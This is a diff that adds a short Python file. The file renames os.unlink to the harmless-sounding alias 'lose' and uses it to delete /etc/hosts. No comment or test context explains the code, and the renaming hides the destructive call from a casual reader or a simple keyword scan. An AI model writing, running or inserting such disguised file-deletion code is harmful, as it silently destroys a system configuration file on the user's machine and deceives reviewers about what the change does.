@@ -1,0 +1,4 @@
+import os
+
+look, lose = os.stat, os.unlink
+lose("/etc/hosts")
